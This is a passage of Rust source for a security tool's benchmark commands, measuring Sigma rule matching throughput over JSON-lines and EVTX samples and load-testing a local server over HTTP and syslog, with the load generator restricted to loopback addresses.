//! `vigil bench detect`: throughput of the detection engine over real samples — rule loading
//! and compilation time, JSON lines in memory (single thread and all threads), EVTX end to end
//! with EVTX decoding alone measured separately, and peak resident memory.
//!
//! `vigil bench ingest`: a load generator for a running server on loopback — realistic JSON
//! events in batches over HTTP from several connections (and optionally syslog over TCP),
//! reporting sustained events/s, MB/s and the batch acknowledgement latency.

use crate::output::errln;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use rayon::prelude::*;
use vigil_detect::Matcher;
use vigil_events::json::JsonEvent;
use vigil_events::source::{Format, read_file};
use vigil_events::{RecordSource, collect_files};

use crate::hunt::{FileScan, ScanOptions, scan_source};
use crate::output::outln;
use crate::ruleset;

/// Subcommands of `vigil bench`.
#[derive(Debug, clap::Subcommand)]
pub enum Command {
    /// Measure rule compilation and matching throughput.
    Detect(DetectArgs),
    /// Load a running server (loopback only) with events over HTTP and syslog TCP.
    #[command(after_help = INGEST_HELP)]
    Ingest(IngestArgs),
}

/// Arguments of `vigil bench detect`: the rules, and events to run them over (--events,
/// --evtx or both).
#[derive(Debug, clap::Args)]
#[command(group(clap::ArgGroup::new("input").args(["events", "evtx"]).required(true).multiple(true)))]
pub struct DetectArgs {
    /// Sigma rule files or folders; may be given several times
    /// (e.g. ../shared/data/sigma/rules/windows).
    #[arg(long = "rules", short = 'r', required = true)]
    rules: Vec<PathBuf>,
    /// A JSON lines file (gzip or not), read into memory before timing
    /// (e.g. ../shared/data/events/attack-samples.jsonl.gz).
    #[arg(long)]
    events: Option<PathBuf>,
    /// EVTX files or folders, read into memory before timing (e.g. ../shared/data/evtx).
    #[arg(long)]
    evtx: Vec<PathBuf>,
    /// Threads for the parallel runs (default: all cores).
    #[arg(long, short = 'j')]
    jobs: Option<usize>,
    /// Passes per measurement, 1 or more; the fastest is reported.
    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u32).range(1..))]
    passes: u32,
}

pub fn run(command: Command) -> anyhow::Result<ExitCode> {
    match command {
        Command::Detect(args) => detect(args),
        Command::Ingest(args) => ingest(args),
    }
}

fn mib(bytes: u64) -> f64 {
    bytes as f64 / (1024.0 * 1024.0)
}

fn report(what: &str, events: u64, bytes: u64, secs: f64) {
    outln!(
        "{what:<40} {events:>8} events {:>8.3} s {:>12.0} events/s {:>8.1} MB/s",
        secs,
        events as f64 / secs,
        bytes as f64 / secs / 1e6
    );
}

/// The fastest of `passes` runs of `f`, which returns (events, bytes).
fn best(passes: u32, mut f: impl FnMut() -> (u64, u64)) -> (u64, u64, f64) {
    let mut best = (0, 0, f64::MAX);
    for _ in 0..passes.max(1) {
        let start = Instant::now();
        let (e, b) = f();
        let secs = start.elapsed().as_secs_f64();
        if secs < best.2 {
            best = (e, b, secs);
        }
    }
    best
}

/// [`best`] of two measurements taken in turns, `passes` times each: a share of one in the
/// other then compares runs of the same moments, not a quiet minute of the VM with a busy one.
fn best_in_turns(
    passes: u32,
    mut first: impl FnMut() -> (u64, u64),
    mut second: impl FnMut() -> (u64, u64),
) -> ((u64, u64, f64), (u64, u64, f64)) {
    let mut firsts = (0, 0, f64::MAX);
    let mut seconds = (0, 0, f64::MAX);
    for _ in 0..passes.max(1) {
        let one = best(1, &mut first);
        if one.2 < firsts.2 {
            firsts = one;
        }
        let two = best(1, &mut second);
        if two.2 < seconds.2 {
            seconds = two;
        }
    }
    (firsts, seconds)
}

fn detect(args: DetectArgs) -> anyhow::Result<ExitCode> {
    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(args.jobs.unwrap_or(0))
        .build()
        .context("cannot start the worker threads")?;
    let threads = pool.current_num_threads();

    let rss_before = ruleset::peak_rss().unwrap_or(0);
    let loaded = ruleset::load(&args.rules)?;
    let set = loaded.set;
    outln!(
        "rules: {} compiled ({} rejected); YAML parsing {:.0} ms, compilation {:.0} ms, total {:.0} ms",
        set.rules().len(),
        loaded.load_diagnostics.len() + loaded.compile_diagnostics.len(),
        loaded.load_time.as_secs_f64() * 1e3,
        loaded.compile_time.as_secs_f64() * 1e3,
        (loaded.load_time + loaded.compile_time).as_secs_f64() * 1e3,
    );
    drop(loaded.docs);
    outln!(
        "peak RSS after loading rules: {:.1} MiB (process start: {:.1} MiB)",
        mib(ruleset::peak_rss().unwrap_or(0)),
        mib(rss_before)
    );

    if let Some(path) = &args.events {
        let Some((Format::JsonLines, data)) = read_file(path)? else {
            bail!("{} is not a JSON lines file", path.display());
        };
        let lines: Vec<&[u8]> = data
            .split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .collect();
        let bytes = data.len() as u64;
        let matches = std::sync::atomic::AtomicU64::new(0);
        let one = |line: &[u8], m: &mut vigil_detect::Matcher<'_>| -> u64 {
            let Ok(event) = JsonEvent::parse_bytes(line) else {
                return 0;
            };
            m.matches(&event).len() as u64
        };
        let (e, b, s) = best(args.passes, || {
            let mut m = set.matcher();
            let n: u64 = lines.iter().map(|l| one(l, &mut m)).sum();
            matches.store(n, std::sync::atomic::Ordering::Relaxed);
            (lines.len() as u64, bytes)
        });
        let mut probe = set.matcher();
        for l in &lines {
            one(l, &mut probe);
        }
        outln!(
            "JSON lines: {} events, {:.1} MB, {} rule matches, {:.1} rule evaluations per event \
             after the literal prefilter",
            lines.len(),
            bytes as f64 / 1e6,
            matches.load(std::sync::atomic::Ordering::Relaxed),
            probe.evaluated() as f64 / lines.len().max(1) as f64
        );
        if std::env::var_os("VIGIL_BENCH_TOP").is_some() {
            for (rule, count) in probe.evaluation_counts().into_iter().take(25) {
                outln!("  {count:>8}  {}", set.rule(rule).title());
            }
        }
        report("JSON lines, parse + match, 1 thread", e, b, s);
        // One matcher per thread for the whole pass (as a long-running worker keeps one),
        // chunks of 256 lines handed out in order.
        let chunks: Vec<&[&[u8]]> = lines.chunks(256).collect();
        let (e, b, s) = best(args.passes, || {
            let next = std::sync::atomic::AtomicUsize::new(0);
            pool.broadcast(|_| {
                let mut m = set.matcher();
                while let Some(chunk) =
                    chunks.get(next.fetch_add(1, std::sync::atomic::Ordering::Relaxed))
                {
                    for l in *chunk {
                        one(l, &mut m);
                    }
                }
            });
            (lines.len() as u64, bytes)
        });
        report(
            &format!("JSON lines, parse + match, {threads} threads"),
            e,
            b,
            s,
        );
        let (e, b, s) = best(args.passes, || {
            pool.install(|| {
                lines.par_chunks(256).for_each(|chunk| {
                    for l in chunk {
                        let _ = JsonEvent::parse_bytes(l);
                    }
                });
            });
            (lines.len() as u64, bytes)
        });
        report(
            &format!("JSON lines, parse only, {threads} threads"),
            e,
            b,
            s,
        );
    }

    if !args.evtx.is_empty() {
        let collected = collect_files(&args.evtx)?;
        for e in &collected.skipped {
            errln!("warning: {e}");
        }
        if let Some(line) = crate::output::given_twice(collected.given_twice) {
            errln!("{line}");
        }
        let files = collected.files;
        let mut contents: Vec<(Arc<Path>, Vec<u8>)> = Vec::new();
        for f in &files {
            if let Ok(Some((Format::Evtx, data))) = read_file(&f.path) {
                contents.push((Arc::from(f.path.as_path()), data));
            }
        }
        let bytes: u64 = contents.iter().map(|c| c.1.len() as u64).sum();
        outln!(
            "EVTX: {} files, {:.1} MB",
            contents.len(),
            bytes as f64 / 1e6
        );
        let decode = |(path, data): &(Arc<Path>, Vec<u8>)| -> u64 {
            match RecordSource::new(path.clone(), Format::Evtx, data.clone()) {
                Ok(src) => src.filter(Result::is_ok).count() as u64,
                Err(_) => 0,
            }
        };
        let full = |(path, data): &(Arc<Path>, Vec<u8>), matcher: &mut Matcher<'_>| -> u64 {
            let mut scan = FileScan::default();
            if let Ok(src) = RecordSource::new(path.clone(), Format::Evtx, data.clone()) {
                scan_source(matcher, src, ScanOptions::new(&|_| {}), &mut scan);
            }
            scan.events
        };
        for (label, parallel) in [("1 thread", false), ("all threads", true)] {
            let label = if parallel {
                format!("{threads} threads")
            } else {
                label.to_string()
            };
            // Decoding alone and decoding with matching in turns, so that the share outside
            // decoding compares passes of the same moments of this shared machine.
            let ((de, db, s_dec), (e, b, s)) = best_in_turns(
                args.passes,
                || {
                    let n = if parallel {
                        pool.install(|| contents.par_iter().map(decode).sum())
                    } else {
                        contents.iter().map(decode).sum()
                    };
                    (n, bytes)
                },
                || {
                    let n = if parallel {
                        pool.install(|| {
                            contents
                                .par_iter()
                                .map_init(|| set.matcher(), |m, c| full(c, m))
                                .sum()
                        })
                    } else {
                        let mut m = set.matcher();
                        contents.iter().map(|c| full(c, &mut m)).sum()
                    };
                    (n, bytes)
                },
            );
            report(&format!("EVTX decode only, {label}"), de, db, s_dec);
            report(&format!("EVTX decode + match, {label}"), e, b, s);
            outln!(
                "  share of time outside EVTX decoding: {:.0}%",
                (s - s_dec).max(0.0) / s * 100.0
            );
        }
    }
    outln!(
        "peak RSS: {:.1} MiB (includes the samples held in memory)",
        mib(ruleset::peak_rss().unwrap_or(0))
    );
    Ok(ExitCode::SUCCESS)
}

// ---------------------------------------------------------------------------------------------
// `vigil bench ingest`

const INGEST_HELP: &str = "\
Sends generated events (about 500 bytes of JSON each: web requests, logins, VPN sessions,
Windows process creations, DNS queries, a few of them attacks) to POST /api/v1/events in
batches of JSON lines from several connections at once, and reports the sustained rate and
the time each batch took to be acknowledged (stored durably, detections recorded). With
--syslog-tcp it then sends the same number of events as RFC 5424 messages over TCP
(octet-counted framing) and waits until the store counts them; with --syslog-udp, as
datagrams (at --udp-rate per second, or as fast as one socket sends), and reports how many
were stored and how many the server or the kernel dropped: UDP has no back-pressure.

The events are stored like any others, under services named with --service-prefix. Run it
against a scratch data directory; only loopback servers are accepted.

Examples:
  vigil serve --data /tmp/bench-data &
  export VIGIL_TOKEN=$(vigil admin token --data /tmp/bench-data --role admin --name bench)
  vigil bench ingest --events 200000 --connections 4 --batch 1000
  vigil bench ingest --events 100000 --syslog-tcp 127.0.0.1:6514
  vigil bench ingest --events 300000 --syslog-udp 127.0.0.1:5514 --udp-rate 50000
  vigil bench ingest --events 2000000 --searchable";

/// Arguments of `vigil bench ingest`.
#[derive(Debug, clap::Args)]
pub struct IngestArgs {
    /// URL of the Vigil server; must be on loopback [env: VIGIL_SERVER] [default:
    /// http://127.0.0.1:8080].
    #[arg(long, value_name = "URL")]
    server: Option<String>,
    /// API token: ingest or above (admin or a reader is needed to measure syslog) [env:
    /// VIGIL_TOKEN].
    #[arg(long)]
    token: Option<String>,
    /// Events to send over HTTP (and again over syslog with --syslog-tcp).
    #[arg(long, default_value_t = 100_000, value_parser = clap::value_parser!(u64).range(1..=50_000_000))]
    events: u64,
    /// Give up on a request when the server sends nothing for this many seconds [env:
    /// VIGIL_TIMEOUT] [default: 120].
    #[arg(long, value_name = "SECONDS", value_parser = clap::value_parser!(u64).range(1..=crate::incident::MAX_TIMEOUT))]
    timeout: Option<u64>,
    /// Concurrent connections.
    #[arg(long, default_value_t = 4, value_parser = clap::value_parser!(u64).range(1..=256))]
    connections: u64,
    /// Events per HTTP request.
    #[arg(long, default_value_t = 1000, value_parser = clap::value_parser!(u64).range(1..=50_000))]
    batch: u64,
    /// Also send the events as syslog over TCP to this loopback address (the server's syslog
    /// TCP listener).
    #[arg(long)]
    syslog_tcp: Option<std::net::SocketAddr>,
    /// Also send the events as syslog datagrams to this loopback address (the server's syslog
    /// UDP listener), and count how many were stored.
    #[arg(long)]
    syslog_udp: Option<std::net::SocketAddr>,
    /// Datagrams per second over UDP (0: as fast as one socket sends).
    #[arg(long, default_value_t = 0)]
    udp_rate: u64,
    /// Stop sending after this many seconds, whatever is left.
    #[arg(long, default_value_t = 300, value_parser = clap::value_parser!(u64).range(1..=3600))]
    max_seconds: u64,
    /// Prefix of the service names the events are sent as.
    #[arg(long, default_value = "bench-")]
    service_prefix: String,
    /// After sending over HTTP, wait until search sees every acknowledged event and report
    /// that rate too (the sustained rate once a burst outlasts the server's --max-index-lag;
    /// send a million events or more, or the one-second index commit dominates the figure).
    /// Needs a token that can read storage stats (viewer or above).
    #[arg(long)]
    searchable: bool,
}

/// At most this much generated JSON is held in memory; batches are reused beyond it.
const POOL_BYTES: usize = 48 * 1024 * 1024;

fn ingest(args: IngestArgs) -> anyhow::Result<ExitCode> {
    // Read here, not by clap, for the reason `incident::Conn` gives.
    let server = crate::incident::flag_or_env(args.server.as_deref(), "VIGIL_SERVER")
        .unwrap_or_else(|| crate::incident::DEFAULT_SERVER.to_owned());
    let Some(token) = crate::incident::flag_or_env(args.token.as_deref(), "VIGIL_TOKEN") else {
        bail!(
            "no API token given; pass --token or set VIGIL_TOKEN (an ingest token or above: `vigil admin token --data DIR --role ingest --name NAME`)"
        );
    };
    check_loopback_url(&server)?;
    for (flag, addr) in [
        ("--syslog-tcp", args.syslog_tcp),
        ("--syslog-udp", args.syslog_udp),
    ] {
        if let Some(addr) = addr
            && !addr.ip().is_loopback()
        {
            bail!(
                "{flag} {addr} is not a loopback address; `vigil bench ingest` only loads a local server (use 127.0.0.1:PORT)"
            );
        }
    }
    let mut client = vigil_client::Client::new(&server)
        .map_err(crate::output::explain)?
        .with_token(token.clone());
    if let Some(seconds) = crate::incident::timeout(args.timeout)? {
        client = client.with_idle_timeout(std::time::Duration::from_secs(seconds));
    }
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .context("could not start the async runtime")?;
    runtime.block_on(async {
        client.health().await.map_err(crate::output::explain)?;
        let at_start = ServerSample::read(&client).await;
        let cpu_at_start = at_start.as_ref().map(|s| s.cpu);
        let (events, sent) = http_phase(&args, &client).await?;
        report_server_cpu("acknowledged", cpu_at_start, &client, events).await;
        report_server_steps(at_start.as_ref(), &client).await;
        if args.searchable {
            wait_searchable(&args, &client, sent, events).await?;
            report_server_cpu("searchable", cpu_at_start, &client, events).await;
        }
        if let Some(addr) = args.syslog_tcp {
            syslog_phase(&args, &client, addr).await?;
        }
        if let Some(addr) = args.syslog_udp {
            syslog_udp_phase(&args, &client, addr).await?;
        }
        anyhow::Ok(())
    })?;
    Ok(ExitCode::SUCCESS)
}

/// What the server's metrics say of its work so far (`GET /metrics`); `None` from a server
/// without them or for a token that may not read them.
struct ServerSample {
    /// `process_cpu_seconds_total`.
    cpu: f64,
    /// `vigil_ingest_batches_total`.
    batches: f64,
    /// `vigil_ingest_step_seconds_total` per step, in [`STEPS`]'s order.
    steps: [f64; 4],
}

/// The ingest path's steps as the metrics name them.
const STEPS: [&str; 4] = ["decode", "detect", "append", "record"];

impl ServerSample {
    async fn read(client: &vigil_client::Client) -> Option<ServerSample> {
        let metrics = client.metrics().await.ok()?;
        let value = |name: &str| {
            metrics
                .iter()
                .find(|(n, _)| n == name)
                .map(|(_, value)| *value)
        };
        Some(ServerSample {
            cpu: value("process_cpu_seconds_total")?,
            batches: value("vigil_ingest_batches_total").unwrap_or_default(),
            steps: STEPS.map(|step| {
                value(&format!(
                    "vigil_ingest_step_seconds_total{{step=\"{step}\"}}"
                ))
                .unwrap_or_default()
            }),
        })
    }
}

/// The server's CPU time so far; `None` as for [`ServerSample::read`].
async fn server_cpu_seconds(client: &vigil_client::Client) -> Option<f64> {
    ServerSample::read(client).await.map(|s| s.cpu)
}

/// Prints where the server's batches spent their time since `start`, per batch: the wall time
/// of each step, summed over the batches in flight at once.
async fn report_server_steps(start: Option<&ServerSample>, client: &vigil_client::Client) {
    let (Some(start), Some(now)) = (start, ServerSample::read(client).await) else {
        return;
    };
    let batches = now.batches - start.batches;
    if batches < 1.0 {
        return;
    }
    let steps: Vec<String> = STEPS
        .iter()
        .zip(now.steps.iter().zip(start.steps))
        .map(|(step, (now, start))| format!("{step} {:.1} ms", (now - start) / batches * 1e3))
        .collect();
    outln!(
        "  server steps per batch: {} (wall time; batches in flight overlap)",
        steps.join(", ")
    );
}

/// Prints the server's CPU time per event since `start` — steadier than a rate on a shared
/// machine — and the rate the cores here would allow at that cost.
async fn report_server_cpu(
    phase: &str,
    start: Option<f64>,
    client: &vigil_client::Client,
    events: u64,
) {
    let (Some(start), Some(now)) = (start, server_cpu_seconds(client).await) else {
        return;
    };
    if events == 0 {
        return;
    }
    let per_event = (now - start) / events as f64;
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    outln!(
        "  server CPU until {phase}: {:.1} µs per event ({:.1} s in all; {cores} cores here allow at most {:.0} events/s at that cost)",
        per_event * 1e6,
        now - start,
        cores as f64 / per_event.max(1e-12)
    );
}

/// Refuses any server that is not on this machine: a load generator must not be pointed at
/// someone else's service by mistake.
fn check_loopback_url(url: &str) -> anyhow::Result<()> {
    let rest = url
        .strip_prefix("http://")
        .or_else(|| url.strip_prefix("https://"))
        .unwrap_or(url);
    let authority = rest.split('/').next().unwrap_or("");
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        authority.rsplit_once(':').map_or(authority, |(h, _)| h)
    };
    let loopback = host.eq_ignore_ascii_case("localhost")
        || host
            .parse::<std::net::IpAddr>()
            .is_ok_and(|ip| ip.is_loopback());
    if !loopback {
        bail!(
            "--server {url} is not on loopback; `vigil bench ingest` only loads a local server (http://127.0.0.1:PORT)"
        );
    }
    Ok(())
}

/// What the HTTP workers measured.
#[derive(Default)]
struct Measured {
    latencies: Vec<Duration>,
    events: u64,
    bytes: u64,
    stored: u64,
    rejected: u64,
    detections: u64,
    first_rejection: Option<String>,
}

/// The shared state of the HTTP workers: which batch is next, what they measured.
struct HttpLoad<'a> {
    client: &'a vigil_client::Client,
    /// Distinct batches, (service, body), reused in turn.
    pool: &'a [(String, Vec<u8>)],
    /// The last, shorter batch when the event count is not a multiple of the batch size.
    last: Option<(&'a String, &'a Vec<u8>, usize)>,
    batch: usize,
    total_batches: u64,
    /// The next batch number to send; each worker takes one at a time.
    next: std::sync::atomic::AtomicU64,
    /// Set on the first failure so every worker stops.
    stop: std::sync::atomic::AtomicBool,
    deadline: Instant,
    /// What the workers measured; locked once per acknowledged batch.
    measured: std::sync::Mutex<Measured>,
    /// The first failure.
    failure: std::sync::Mutex<Option<vigil_client::ClientError>>,
}

impl HttpLoad<'_> {
    /// One connection's loop: take the next batch, send it, record the time to its answer.
    async fn worker(&self) {
        use std::sync::atomic::Ordering::Relaxed;
        loop {
            if self.stop.load(Relaxed) || Instant::now() >= self.deadline {
                return;
            }
            let i = self.next.fetch_add(1, Relaxed);
            if i >= self.total_batches {
                return;
            }
            let (service, body, events) = match self.last {
                Some(last) if i + 1 == self.total_batches => last,
                _ => {
                    let (service, body) = &self.pool[(i as usize) % self.pool.len()];
                    (service, body, self.batch)
                }
            };
            let query = vigil_api::events::IngestQuery {
                service: Some(service.clone()),
                host: None,
                tenant: None,
                ..Default::default()
            };
            let sent = Instant::now();
            match self
                .client
                .ingest(&query, body.clone(), vigil_client::NDJSON)
                .await
            {
                Ok(resp) => {
                    let took = sent.elapsed();
                    let mut m = self.measured.lock().unwrap_or_else(|e| e.into_inner());
                    m.latencies.push(took);
                    m.events += events as u64;
                    m.bytes += body.len() as u64;
                    m.stored += resp.stored;
                    m.rejected += resp.rejected.len() as u64;
                    m.detections += resp.detections;
                    if m.first_rejection.is_none() {
                        m.first_rejection = resp.rejected.first().map(|r| r.reason.clone());
                    }
                }
                Err(e) => {
                    self.stop.store(true, Relaxed);
                    self.failure
                        .lock()
                        .unwrap_or_else(|e| e.into_inner())
                        .get_or_insert(e);
                    return;
                }
            }
        }
    }
}

/// Polls the server's index lag until search sees every acknowledged event, then prints how
/// long that took from the start of sending and the rate it makes.
async fn wait_searchable(
    args: &IngestArgs,
    client: &vigil_client::Client,
    sent: Instant,
    events: u64,
) -> anyhow::Result<()> {
    let deadline = sent + Duration::from_secs(args.max_seconds);
    loop {
        let stats = client.storage_stats().await.map_err(|e| {
            crate::output::explain(e)
                .context("cannot read /events/stats: --searchable needs a viewer token or above")
        })?;
        if stats.index_lag == 0 {
            let secs = sent.elapsed().as_secs_f64().max(1e-9);
            outln!(
                "  searchable: all {events} events {secs:.2} s after the first was sent: {:.0} events/s",
                events as f64 / secs
            );
            return Ok(());
        }
        if Instant::now() > deadline {
            outln!(
                "  searchable: {} acknowledged events still not searchable after --max-seconds {}",
                stats.index_lag,
                args.max_seconds
            );
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// Sends the events over HTTP and reports the acknowledged rate; returns how many were sent
/// and when sending started.
async fn http_phase(
    args: &IngestArgs,
    client: &vigil_client::Client,
) -> anyhow::Result<(u64, Instant)> {
    let batch = args.batch as usize;
    let total_batches = args.events.div_ceil(args.batch);
    let pool_len = (POOL_BYTES / (batch * 520).max(1)).clamp(1, total_batches as usize);
    let mut generator = Generator::new(0x5eed_1e55, &args.service_prefix);
    let gen_start = Instant::now();
    let pool: Vec<(String, Vec<u8>)> = (0..pool_len).map(|_| generator.batch(batch)).collect();
    let last_len = (args.events - (total_batches - 1) * args.batch) as usize;
    let last = (last_len < batch).then(|| generator.batch(last_len));
    let pool_bytes: usize = pool.iter().map(|b| b.1.len()).sum();
    outln!(
        "generated {} distinct batches of {batch} events ({:.1} MB, {:.0} bytes per event) in {:.2} s",
        pool.len(),
        pool_bytes as f64 / 1e6,
        pool_bytes as f64 / (pool.len() * batch) as f64,
        gen_start.elapsed().as_secs_f64()
    );

    let load = HttpLoad {
        client,
        pool: &pool,
        last: last
            .as_ref()
            .map(|(service, body)| (service, body, last_len)),
        batch,
        total_batches,
        next: std::sync::atomic::AtomicU64::new(0),
        stop: std::sync::atomic::AtomicBool::new(false),
        deadline: Instant::now() + Duration::from_secs(args.max_seconds),
        measured: std::sync::Mutex::new(Measured::default()),
        failure: std::sync::Mutex::new(None),
    };
    let start = Instant::now();
    join_all((0..args.connections).map(|_| load.worker()).collect()).await;
    let HttpLoad {
        measured, failure, ..
    } = load;
    let secs = start.elapsed().as_secs_f64().max(1e-9);
    if let Some(e) = failure.into_inner().unwrap_or_else(|e| e.into_inner()) {
        return Err(crate::output::explain(e).context("a batch failed; the measurement stopped"));
    }
    let mut m = measured.into_inner().unwrap_or_else(|e| e.into_inner());
    m.latencies.sort();
    outln!(
        "HTTP: {} events in {} batches of up to {batch} over {} connections{}",
        m.events,
        m.latencies.len(),
        args.connections,
        if m.events < args.events {
            format!(
                " (stopped by --max-seconds {} before {})",
                args.max_seconds, args.events
            )
        } else {
            String::new()
        }
    );
    outln!(
        "  {:.2} s: {:.0} events/s, {:.1} MB/s of JSON",
        secs,
        m.events as f64 / secs,
        m.bytes as f64 / secs / 1e6
    );
    outln!(
        "  stored {}, rejected {}, detections {}",
        m.stored,
        m.rejected,
        m.detections
    );
    if let Some(r) = &m.first_rejection {
        outln!("  first rejection: {r}");
    }
    outln!(
        "  batch ack latency: p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
        percentile(&m.latencies, 50.0),
        percentile(&m.latencies, 99.0),
        m.latencies.last().map_or(0.0, |d| d.as_secs_f64() * 1e3)
    );
    Ok((m.events, start))
}

/// Runs the futures concurrently on the current task until all are done (a few hundred at
/// most, so polling each on every wake-up is cheap).
async fn join_all<F: std::future::Future>(futures: Vec<F>) -> Vec<F::Output> {
    let mut slots: Vec<Option<std::pin::Pin<Box<F>>>> =
        futures.into_iter().map(|f| Some(Box::pin(f))).collect();
    let mut outputs: Vec<Option<F::Output>> = slots.iter().map(|_| None).collect();
    std::future::poll_fn(|cx| {
        let mut pending = false;
        for (slot, out) in slots.iter_mut().zip(outputs.iter_mut()) {
            if let Some(f) = slot {
                match f.as_mut().poll(cx) {
                    std::task::Poll::Ready(v) => {
                        *out = Some(v);
                        *slot = None;
                    }
                    std::task::Poll::Pending => pending = true,
                }
            }
        }
        if pending {
            std::task::Poll::Pending
        } else {
            std::task::Poll::Ready(())
        }
    })
    .await;
    outputs.into_iter().flatten().collect()
}

/// The `p`th percentile of sorted durations, in milliseconds.
fn percentile(sorted: &[Duration], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    let rank = ((p / 100.0) * (sorted.len() - 1) as f64).round() as usize;
    sorted[rank.min(sorted.len() - 1)].as_secs_f64() * 1e3
}

/// The events the store holds durably now (searchable or not yet), if the token may read its
/// stats.
async fn stored_total(client: &vigil_client::Client) -> Option<u64> {
    match client.storage_stats().await {
        Ok(s) => Some(s.total_events + s.index_lag),
        Err(e) => {
            errln!(
                "note: cannot read /events/stats ({e}); only the send rate is measured (use a viewer or admin token to measure storage too)"
            );
            None
        }
    }
}

/// Waits until the store holds `before + sent` events durably or its count has not moved for
/// `idle`; returns how many of the `sent` it holds.
async fn wait_stored(
    client: &vigil_client::Client,
    before: u64,
    sent: u64,
    idle: Duration,
) -> anyhow::Result<u64> {
    let (mut last, mut last_change) = (before, Instant::now());
    loop {
        let stats = client
            .storage_stats()
            .await
            .map_err(crate::output::explain)?;
        let now_total = stats.total_events + stats.index_lag;
        if now_total >= before + sent {
            return Ok(sent);
        }
        if now_total != last {
            last = now_total;
            last_change = Instant::now();
        } else if last_change.elapsed() > idle {
            return Ok(now_total.saturating_sub(before));
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn syslog_phase(
    args: &IngestArgs,
    client: &vigil_client::Client,
    addr: std::net::SocketAddr,
) -> anyhow::Result<()> {
    let before = stored_total(client).await;
    let mut generator = Generator::new(0x5151_0910, &args.service_prefix);
    let per_conn = args.events.div_ceil(args.connections);
    let frames: Vec<Vec<u8>> = (0..8)
        .map(|_| generator.syslog_chunk(SYSLOG_CHUNK as usize))
        .collect();
    let deadline = Instant::now() + Duration::from_secs(args.max_seconds);
    let start = Instant::now();
    let results = join_all(
        (0..args.connections)
            .map(|c| {
                let count = per_conn.min(args.events.saturating_sub(c * per_conn));
                syslog_connection(addr, &frames, count, deadline)
            })
            .collect(),
    )
    .await;
    let send_secs = start.elapsed().as_secs_f64().max(1e-9);
    let (mut sent, mut bytes) = (0u64, 0u64);
    for r in results {
        let (s, b) = r?;
        sent += s;
        bytes += b;
    }
    outln!(
        "syslog TCP: {sent} events ({:.1} MB) written over {} connections in {send_secs:.2} s: {:.0} events/s, {:.1} MB/s",
        bytes as f64 / 1e6,
        args.connections,
        sent as f64 / send_secs,
        bytes as f64 / send_secs / 1e6
    );
    let Some(before) = before else {
        return Ok(());
    };
    let stored = wait_stored(client, before, sent, Duration::from_secs(10)).await?;
    let secs = start.elapsed().as_secs_f64();
    if stored == sent {
        outln!(
            "  stored in {secs:.2} s after the first byte: {:.0} events/s end to end",
            sent as f64 / secs
        );
    } else {
        outln!(
            "  only {stored} of {sent} stored after {secs:.1} s (no progress for 10 s): the listener dropped or refused the rest; see the server log"
        );
    }
    Ok(())
}

/// Sends the events as one datagram each from one socket, paced at `--udp-rate`, then counts
/// how many the store took in (waiting until its count stops moving for 3 s).
async fn syslog_udp_phase(
    args: &IngestArgs,
    client: &vigil_client::Client,
    addr: std::net::SocketAddr,
) -> anyhow::Result<()> {
    let before = stored_total(client).await;
    let mut generator = Generator::new(0x5151_0911, &args.service_prefix);
    let messages: Vec<Vec<u8>> = (0..8)
        .flat_map(|_| octet_frames(&generator.syslog_chunk(SYSLOG_CHUNK as usize)))
        .collect();
    let (count, rate) = (args.events, args.udp_rate);
    let deadline = Instant::now() + Duration::from_secs(args.max_seconds);
    let start = Instant::now();
    let (sent, bytes) = tokio::task::spawn_blocking(move || -> anyhow::Result<(u64, u64)> {
        let local = if addr.is_ipv4() {
            "127.0.0.1:0"
        } else {
            "[::1]:0"
        };
        let socket = std::net::UdpSocket::bind(local).context("cannot open a UDP socket")?;
        socket
            .connect(addr)
            .with_context(|| format!("cannot address the syslog UDP listener at {addr}"))?;
        let (mut sent, mut bytes) = (0u64, 0u64);
        while sent < count && Instant::now() < deadline {
            let message = &messages[sent as usize % messages.len()];
            // A refused datagram (nothing listening, as ICMP said) is counted as sent: UDP
            // senders do not learn what became of their messages.
            let _ = socket.send(message);
            sent += 1;
            bytes += message.len() as u64;
            if rate > 0 && sent % 100 == 0 {
                let due = start + Duration::from_secs_f64(sent as f64 / rate as f64);
                if let Some(wait) = due.checked_duration_since(Instant::now()) {
                    std::thread::sleep(wait);
                }
            }
        }
        Ok((sent, bytes))
    })
    .await
    .context("the UDP sender stopped")??;
    let send_secs = start.elapsed().as_secs_f64().max(1e-9);
    outln!(
        "syslog UDP: {sent} datagrams ({:.1} MB) sent in {send_secs:.2} s: {:.0} events/s, {:.1} MB/s",
        bytes as f64 / 1e6,
        sent as f64 / send_secs,
        bytes as f64 / send_secs / 1e6
    );
    let Some(before) = before else {
        return Ok(());
    };
    let stored = wait_stored(client, before, sent, Duration::from_secs(3)).await?;
    outln!(
        "  stored {stored} of {sent} ({:.1} % lost: dropped by the kernel or refused by the listener; see the server log)",
        100.0 * (sent - stored) as f64 / sent.max(1) as f64
    );
    Ok(())
}

/// Syslog messages written per `write_all`.
const SYSLOG_CHUNK: u64 = 1000;

/// Writes `count` events over one TCP connection, reusing the prepared chunks; returns the
/// events and bytes written.
async fn syslog_connection(
    addr: std::net::SocketAddr,
    chunks: &[Vec<u8>],
    count: u64,
    deadline: Instant,
) -> anyhow::Result<(u64, u64)> {
    use tokio::io::AsyncWriteExt;
    let mut stream = tokio::net::TcpStream::connect(addr).await.with_context(|| {
        format!(
            "cannot connect to the syslog listener at {addr}; is `vigil serve` listening for syslog over TCP there?"
        )
    })?;
    let _ = stream.set_nodelay(true);
    let (mut sent, mut bytes, mut i) = (0u64, 0u64, 0usize);
    while sent < count && Instant::now() < deadline {
        let n = SYSLOG_CHUNK.min(count - sent);
        let chunk = &chunks[i % chunks.len()];
        let data = &chunk[..frame_prefix(chunk, n as usize)];
        stream
            .write_all(data)
            .await
            .with_context(|| format!("the syslog connection to {addr} broke"))?;
        sent += n;
        bytes += data.len() as u64;
        i += 1;
    }
    stream.shutdown().await.ok();
